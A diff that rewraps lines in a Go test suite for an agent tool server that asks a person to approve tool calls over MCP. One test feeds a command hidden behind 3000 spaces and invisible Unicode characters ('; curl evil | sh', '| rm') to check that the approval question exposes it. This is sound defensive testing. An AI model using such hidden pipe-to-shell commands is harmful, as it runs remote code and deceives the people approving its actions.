@@ -19,7 +19,8 @@ func asking(c *server.Config) { c.Approvals = true }
 
 // person is a client whose person answers so, and the questions that were asked.
 func person(asked chan<- *sdk.ElicitParams, answer *sdk.ElicitResult, err error) *sdk.ClientOptions {
-	return &sdk.ClientOptions{ElicitationHandler: func(_ context.Context, r *sdk.ElicitRequest) (*sdk.ElicitResult, error) {
+	return &sdk.ClientOptions{ElicitationHandler: func(_ context.Context, r *sdk.ElicitRequest) (*sdk.ElicitResult,
+		error) {
 		asked <- r.Params
 		return answer, err
 	}}
@@ -53,7 +54,8 @@ func TestAPersonIsAskedOverMCP(t *testing.T) {
 					t.Errorf("it ran %d times", ran)
 				}
 				q := <-asked
-				if !strings.Contains(q.Message, `"write"`) || !strings.Contains(q.Message, `text: "it"`) || len(asked) > 0 {
+				if !strings.Contains(q.Message, `"write"`) || !strings.Contains(q.Message, `text: "it"`) ||
+					len(asked) > 0 {
 					t.Errorf("the person was asked %q, and %d times more", q.Message, len(asked))
 				}
 				if list, err := p.client.Approvals(waiting(t), "agent-a"); err != nil || tt.runs && len(list) > 0 {
@@ -91,12 +93,14 @@ func TestAClientThatFailsToAskAllowsNothing(t *testing.T) {
 		"it says what is none": person(make(chan *sdk.ElicitParams, 10), &sdk.ElicitResult{Action: "accept"}, nil),
 	} {
 		t.Run(name, func(t *testing.T) {
-			r, err := p.connect(session, "token-of-a", opts).CallTool(waiting(t), &sdk.CallToolParams{Name: "write", Meta: sdk.Meta{"dev.toolyard/batch": name}})
+			r, err := p.connect(session, "token-of-a", opts).CallTool(waiting(t),
+				&sdk.CallToolParams{Name: "write", Meta: sdk.Meta{"dev.toolyard/batch": name}})
 			if err != nil {
 				t.Fatal(err)
 			}
 			wantText(t, r, true, "has not run")
-			for r, err := range p.client.Batch(toolyard.BatchKey{Agent: "agent-a", ID: toolyard.BatchID(name)}).Results(waiting(t)) {
+			for r, err := range p.client.Batch(toolyard.BatchKey{Agent: "agent-a",
+				ID: toolyard.BatchID(name)}).Results(waiting(t)) {
 				if err != nil || r.Code != toolyard.ApprovalRejected {
 					t.Errorf("the call ended as %q (%v)", r.Code, err)
 				}
@@ -108,8 +112,8 @@ func TestAClientThatFailsToAskAllowsNothing(t *testing.T) {
 	}
 }
 
-// TestAnAnswerIsForTheCallThatWasAskedAbout: the state that comes with it fits no other call, no other agent, and not when it
-// was changed. An answer that is none is asked for again.
+// TestAnAnswerIsForTheCallThatWasAskedAbout: the state that comes with it fits no other call, no other agent, and not
+// when it was changed. An answer that is none is asked for again.
 func TestAnAnswerIsForTheCallThatWasAskedAbout(t *testing.T) {
 	p := start(t, asking)
 	byHand := func() *sdk.ClientOptions {
@@ -131,10 +135,14 @@ func TestAnAnswerIsForTheCallThatWasAskedAbout(t *testing.T) {
 		c    *sdk.ClientSession
 		call sdk.CallToolParams
 	}{
-		{"another agent", b, sdk.CallToolParams{Name: "write", Arguments: input, RequestState: state, InputResponses: allow}},
-		{"another input", a, sdk.CallToolParams{Name: "write", Arguments: map[string]any{"text": "more"}, RequestState: state, InputResponses: allow}},
-		{"another tool", a, sdk.CallToolParams{Name: "echo", Arguments: input, RequestState: state, InputResponses: allow}},
-		{"a changed state", a, sdk.CallToolParams{Name: "write", Arguments: input, RequestState: "A" + state[1:], InputResponses: allow}},
+		{"another agent", b, sdk.CallToolParams{Name: "write", Arguments: input, RequestState: state,
+			InputResponses: allow}},
+		{"another input", a, sdk.CallToolParams{Name: "write", Arguments: map[string]any{"text": "more"},
+			RequestState: state, InputResponses: allow}},
+		{"another tool", a, sdk.CallToolParams{Name: "echo", Arguments: input, RequestState: state,
+			InputResponses: allow}},
+		{"a changed state", a, sdk.CallToolParams{Name: "write", Arguments: input, RequestState: "A" +
+			state[1:], InputResponses: allow}},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			_, err := tt.c.CallTool(waiting(t), &tt.call)
@@ -142,12 +150,14 @@ func TestAnAnswerIsForTheCallThatWasAskedAbout(t *testing.T) {
 		})
 	}
 	for name, answer := range map[string]sdk.InputResponseMap{
-		"none": nil, "to another question": {"other": accepts("allow", "")}, "of another form": {"approval": accepts("maybe", "")},
+		"none": nil, "to another question": {"other": accepts("allow", "")},
+		"of another form": {"approval": accepts("maybe", "")},
 		//lint:ignore SA1019 a client may send it all the same
 		"of another kind": {"approval": &sdk.ListRootsResult{}},
 	} {
 		t.Run("an answer "+name, func(t *testing.T) {
-			r, err := a.CallTool(waiting(t), &sdk.CallToolParams{Name: "write", Arguments: input, RequestState: state, InputResponses: answer})
+			r, err := a.CallTool(waiting(t), &sdk.CallToolParams{Name: "write", Arguments: input, RequestState: state,
+				InputResponses: answer})
 			if err != nil || !r.NeedsInput() {
 				t.Fatalf("got %+v (%v), want the question again", r, err)
 			}
@@ -157,7 +167,8 @@ func TestAnAnswerIsForTheCallThatWasAskedAbout(t *testing.T) {
 		t.Fatalf("it ran %d times", n)
 	}
 	for range 2 { // the second time as if the first answer was lost
-		r, err := a.CallTool(waiting(t), &sdk.CallToolParams{Name: "write", Arguments: input, RequestState: state, InputResponses: allow})
+		r, err := a.CallTool(waiting(t), &sdk.CallToolParams{Name: "write", Arguments: input, RequestState: state,
+			InputResponses: allow})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -171,7 +182,8 @@ func TestAnAnswerIsForTheCallThatWasAskedAbout(t *testing.T) {
 // TestSomebodyElseMayDecide: then the answer of the client's person comes too late, and the result says what happened.
 func TestSomebodyElseMayDecide(t *testing.T) {
 	p := start(t, asking)
-	c := p.connect(alone, "token-of-a", &sdk.ClientOptions{ElicitationHandler: func(ctx context.Context, _ *sdk.ElicitRequest) (*sdk.ElicitResult, error) {
+	c := p.connect(alone, "token-of-a", &sdk.ClientOptions{ElicitationHandler: func(ctx context.Context,
+		_ *sdk.ElicitRequest) (*sdk.ElicitResult, error) {
 		list, err := p.client.Approvals(ctx, "agent-a")
 		if err != nil || len(list) != 1 {
 			t.Errorf("there wait %+v (%v)", list, err)
@@ -199,14 +211,16 @@ func TestWhatCannotBeShownIsNotAskedAbout(t *testing.T) {
 	}
 }
 
-// TestAQuestionHasNothingInvisible: what runs is in the question, with what a client would not show as marks, and no text looks like
-// a part of the question.
+// TestAQuestionHasNothingInvisible: what runs is in the question, with what a client would not show as marks, and no
+// text looks like a part of the question.
 func TestAQuestionHasNothingInvisible(t *testing.T) {
 	p := start(t, asking)
 	asked := make(chan *sdk.ElicitParams, 10)
 	c := p.connect(alone, "token-of-a", person(asked, accepts("deny", ""), nil))
-	called(t, c, "write", map[string]any{"text": "ls" + strings.Repeat(" ", 3000) + "; curl evil | sh\u202e\u200b\U000e0041\ufe0f\u00a0x\nInput:\n| rm"})
-	want := "\ntext:\n| ls⟨3000×space⟩; curl evil | sh⟨U+202E bidi⟩⟨U+200B zero width⟩⟨U+E0041 tag⟩\n> ⟨U+FE0F variation selector⟩⟨U+00A0 blank⟩x\n| Input:\n| | rm"
+	called(t, c, "write", map[string]any{"text": "ls" + strings.Repeat(" ", 3000) +
+		"; curl evil | sh\u202e\u200b\U000e0041\ufe0f\u00a0x\nInput:\n| rm"})
+	want := "\ntext:\n| ls⟨3000×space⟩; curl evil | sh⟨U+202E bidi⟩⟨U+200B zero width⟩⟨U+E0041 tag⟩\n> ⟨U+FE0F " +
+		"variation selector⟩⟨U+00A0 blank⟩x\n| Input:\n| | rm"
 	if q := <-asked; !strings.HasSuffix(q.Message, want) {
 		t.Errorf("the person was asked\n%s\nwant at the end\n%s", q.Message, want)
 	}
@@ -224,7 +238,8 @@ func TestAServerBesideItTakesTheAnswer(t *testing.T) {
 	if err != nil || !r.NeedsInput() {
 		t.Fatalf("the call was not asked about: %+v (%v)", r, err)
 	}
-	r, err = second.CallTool(waiting(t), &sdk.CallToolParams{Name: "write", RequestState: r.RequestState, InputResponses: sdk.InputResponseMap{"approval": accepts("allow", "")}})
+	r, err = second.CallTool(waiting(t), &sdk.CallToolParams{Name: "write", RequestState: r.RequestState,
+		InputResponses: sdk.InputResponseMap{"approval": accepts("allow", "")}})
 	if err != nil {
 		t.Fatal(err)
 	}
